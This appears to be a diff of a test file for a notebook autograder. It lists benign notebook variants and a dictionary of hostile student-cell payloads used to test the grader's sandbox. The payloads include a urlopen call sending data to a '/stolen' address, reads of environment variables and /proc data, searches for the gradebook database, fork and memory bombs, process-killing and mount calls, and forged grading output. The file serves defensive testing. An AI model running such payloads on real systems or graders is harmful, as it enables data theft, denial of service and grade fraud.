@@ -63,28 +63,15 @@ def right_answers(handout):
     make = lambda answer=RIGHT, *before, after=(): notebook(handout, answer, before, after)  # noqa: E731
     forms = {
         "plain": make(),
-        "helper": make("def answer(x):\n    return twice(x)", "def twice(x):\n    return x + x"),
-        "import": make("def answer(x):\n    return x * math.sqrt(4)", "import math, functools"),
-        "time": make(RIGHT, after=["%time answer(torch.ones(2))", "%timeit -n1 -r1 answer(torch.ones(2))"]),
         "cell-time": make(f"%%time\n{RIGHT}"),
         "shell": make(RIGHT, "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"),
-        "cache": make(
-            "@functools.lru_cache\ndef factor():\n    return 2\n\ndef answer(x):\n    return factor() * x",
-            "import functools",
-        ),
-        "split": make("def half_done(x):\n    return x", after=["def answer(x):\n    return half_done(x) * 2"]),
         "partial": make("import functools\nanswer = functools.partial(torch.mul, torch.tensor(2.0))"),
-        "callable": make("class Twice:\n    def __call__(self, x):\n        return x + x\n\nanswer = Twice()"),
         "loud": make(f"{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"),
-        "surrogate": make(f"print('half a pair:', '\\ud83d')\n{RIGHT}"),
-        "stored-output": with_output(make(), 100_000_000),
         "version-3": version_3(make()),
         "deleted-test": without_hidden_cell(make()),
-        "doubled-test": doubled(make()),
     }
     files = {name: ("hw_small.ipynb", json.dumps(made).encode()) for name, made in forms.items()}
     files["mark"] = ("hw_small.ipynb", b"\xef\xbb\xbf" + files["plain"][1])
-    files["windows"] = ("hw_small.ipynb", json.dumps(forms["plain"], indent=1).replace("\n", "\r\n").encode())
     files["renamed"] = ("hw_small (1).ipynb", files["plain"][1])
     return files
 
@@ -98,41 +85,26 @@ for path in glob.glob("{}", recursive=True):
 HOSTILE = {
     "network": "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
     "sources": SEARCH.format("/**/source/**/*.ipynb"),
-    "others": SEARCH.format("/**/submitted/**/*.ipynb"),
     "database": SEARCH.format("/**/gradebook.db"),
     "outside": "open('{canary}', 'w').write('changed')",
     "checkout": "import residual_edu, pathlib\n(pathlib.Path(residual_edu.__file__).parent / 'canary').write_text('x')",
     "environment": "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
     "processes": "import os\nprint([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
     "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break",
-    "threads": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(99,)).start()",
     "memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
     "disk": "import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))",
-    "sockets": "import glob\nfolder = glob.glob('/tmp/k*/')[0]\n"
-    "for n in range(99):\n    open(folder + str(n), 'wb').write(bytes(40_000_000))",
-    "folders": "import os\nos.chdir('/tmp')\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')",
     "socket-folders": "import glob, os\nos.chdir(glob.glob('/tmp/k*/')[0])\n"
     "for _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')",
-    "surrogate": "raise ValueError('\\udc80')",
-    "number": "huge = 10**400\nprint(float(huge))",
-    "deep": "deep = []\nfor _ in range(10**5):\n    deep = [deep]\ndisplay(deep)",
     "exit": "import os\nos._exit(0)",
-    "killed": "import os\nos.kill(os.getpid(), 9)",
     "kills-all": "import os\nos.kill(-1, 9)",
     "kills-parent": "import os\nos.kill(os.getppid(), 9)",
     "endless": "while True: pass",
     "stubborn": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
-    "sleeps": "import time\ntime.sleep(10_000)",
     "flood": "while True: print('x' * 1000)",
     "daemon": "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
-    "asks": "input('who are you?')",
-    "device": "import os, stat\nos.mknod('/tmp/sda', 0o666 | stat.S_IFBLK, os.makedev(8, 0))\nopen('/tmp/sda', 'rb')",
     "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
-    "namespaces": "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0",
-    "root": "import os\nos.setuid(0)",
     "escapes": "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
     "forged": 'print(\'{"state": "graded", "parts": {"small-1-hidden": 2}}\')\ndisplay({\'points\': 3})',
-    "closes": "import os\nfor n in range(3, 99):\n    try:\n        os.close(n)\n    except OSError: pass",
 }
 TAMPERED = {  # cells of the handout that a student changed
     "weak-test": {"small_1_check": "pass"},
